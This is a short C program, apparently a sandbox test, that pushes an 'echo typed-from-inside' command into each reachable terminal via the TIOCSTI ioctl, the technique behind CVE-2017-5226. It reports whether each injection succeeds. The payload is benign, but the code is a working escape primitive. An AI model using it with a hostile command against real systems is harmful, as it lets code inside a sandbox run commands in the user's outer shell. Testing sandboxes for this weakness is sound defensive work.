/*
 * Types a command into every terminal it can get at (TIOCSTI), as CVE-2017-5226 and its relatives
 * do: if one of them is the terminal of the shell outside, that shell runs it.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void type(int fd, const char *name) {
    for (const char *c = "echo typed-from-inside\n"; *c; c++)
        if (ioctl(fd, TIOCSTI, c) != 0) {
            printf("%s: %s\n", name, strerror(errno));
            return;
        }
    printf("%s: typed\n", name);
}

int main(void) {
    ioctl(0, TIOCSCTTY, 0);
    for (int fd = 0; fd < 3; fd++) {
        char name[16];
        snprintf(name, sizeof name, "fd %d", fd);
        type(fd, name);
    }
    int tty = open("/dev/tty", O_RDWR);
    if (tty >= 0)
        type(tty, "/dev/tty");
    return 0;
}
